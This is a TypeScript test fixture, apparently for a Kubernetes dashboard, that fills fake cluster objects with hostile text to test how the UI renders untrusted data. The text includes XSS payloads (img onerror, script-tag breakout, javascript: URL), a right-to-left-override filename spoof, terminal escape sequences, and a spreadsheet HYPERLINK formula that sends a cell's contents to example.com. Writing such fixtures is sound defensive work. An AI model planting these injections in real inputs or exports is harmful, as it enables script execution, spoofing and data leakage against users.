import type { Item } from '@argus/contracts/gateway-frame'
import type { Column } from '@argus/contracts/row'

import { CERTIFICATES, certificate, clusterState, topicOf } from './fleet.ts'
import { SmallTopic } from './small-topic.ts'

/** What somebody writes who wants to be more than text: it would run, or make an element, wherever it is taken for markup. */
export const MARKUP = `<img class="hostile" src=x onerror="window.ran=1">`
export const SCRIPT = `</title></style></script><script class="hostile">window.ran=1</script>`
export const LINK = 'javascript:window.ran=1//'
/** Shown as it is written in the text, it would read `invoice` and then what follows it backwards. */
export const TURNED = 'invoice\u202Efdp\u2066.exe\u061C'
const CONTROLS = 'bell\u0007 escape\u001B[31m tab-less\u0085\u0001'
/** A formula to a spreadsheet. */
export const FORMULA = '=HYPERLINK("https://example.com/?"&A1,"open")'
export const ALL = [MARKUP, SCRIPT, LINK, TURNED, CONTROLS, FORMULA].join(' ')
/** As long as names may be, with nowhere to break. */
export const LONG = 'n'.repeat(253)

/** Names of objects: the API server would refuse them, but a cluster may be anybody's. */
export const NAMES = [MARKUP, LINK, TURNED, FORMULA, LONG]

const KIND = {
  ...CERTIFICATES,
  kind: `Certificate${MARKUP}${TURNED}`,
  columns: CERTIFICATES.columns.map((column): Column => ({
    ...column,
    name: `${column.name} ${ALL}`,
  })),
}

/** A cluster that lies wherever it can: kind, columns, names, labels, messages, its own state and version. */
export function hostileCluster(cluster: string, now: number): SmallTopic[] {
  const topic = topicOf(
    KIND,
    cluster,
    NAMES.map((name) => hostileObject(name, now)),
  )
  return [topic, hostileState(cluster, now), hostileWatches(cluster, now)]
}

/** An object whose every text is hostile; `round` makes each text another one. */
export function hostileObject(name: string, now: number, round = 1): Item {
  const text = `${round} ${ALL}`
  const plain = certificate(`${TURNED}${MARKUP}/${name}`, now, { health: 'Failed', reason: text })
  const word = 'm'.repeat(5_000)
  return {
    ...plain,
    cells: [text, `${LINK}${round}`, word, text],
    object: {
      ...plain.object,
      apiVersion: 'cert-manager.io/v1',
      kind: KIND.kind,
      metadata: {
        name,
        namespace: `${TURNED}${MARKUP}`,
        labels: { [ALL]: text, [LONG]: LONG },
        annotations: { [ALL]: text, large: 'a'.repeat(65_536), lines: 'line\n'.repeat(500) },
        finalizers: [text],
      },
      spec: { [ALL]: { [MARKUP]: [text, LINK] }, url: LINK },
      status: {
        conditions: [
          { type: text, status: text, reason: text, message: text, lastTransitionTime: text },
          { type: LONG, status: 'False', reason: LONG, message: word },
        ],
      },
    },
  }
}

/** What Kubernetes recorded of the object with the long name. */
export function hostileEvents(cluster: string, now: number): SmallTopic {
  const namespace = `${TURNED}${MARKUP}`
  const kind = { group: 'core', resource: 'events', kind: 'Event', namespaced: true, columns: [] }
  const texts = [ALL, LONG, 'e'.repeat(5_000)]
  const events = texts.map((text, index): Item => ({
    ...certificate(`${namespace}/event-${index}`, now),
    object: {
      metadata: { name: `event-${index}`, namespace },
      involvedObject: { kind: KIND.kind, name: LONG },
      type: index === 0 ? 'Warning' : text,
      reason: text,
      message: text,
      source: { component: text },
      lastTimestamp: new Date(now).toISOString(),
    },
  }))
  return topicOf(kind, cluster, events)
}

function hostileState(cluster: string, now: number): SmallTopic {
  const topic = clusterState(cluster, NAMES.length, now)
  const [item] = topic.items.values()
  if (item === undefined) throw new Error('a cluster without a state')
  const [, , ...counts] = item.cells
  topic.items.set(item.key, { ...item, reason: ALL, cells: ['unreachable', ALL, ...counts] })
  return topic
}

function hostileWatches(cluster: string, now: number): SmallTopic {
  const key = `/${KIND.group}.${KIND.resource}`
  const item = {
    ...certificate(key, now),
    key,
    cells: [KIND.kind, 'live', now, 5, 12, 0, `watcher-1 ${ALL}`],
  }
  const shape = { kind: 'Watch', namespaced: false, columns: [] }
  const topic = { cluster, group: 'argus.internal', version: 'v1', resource: 'watches' }
  return new SmallTopic({ topic, shape, items: [item] })
}
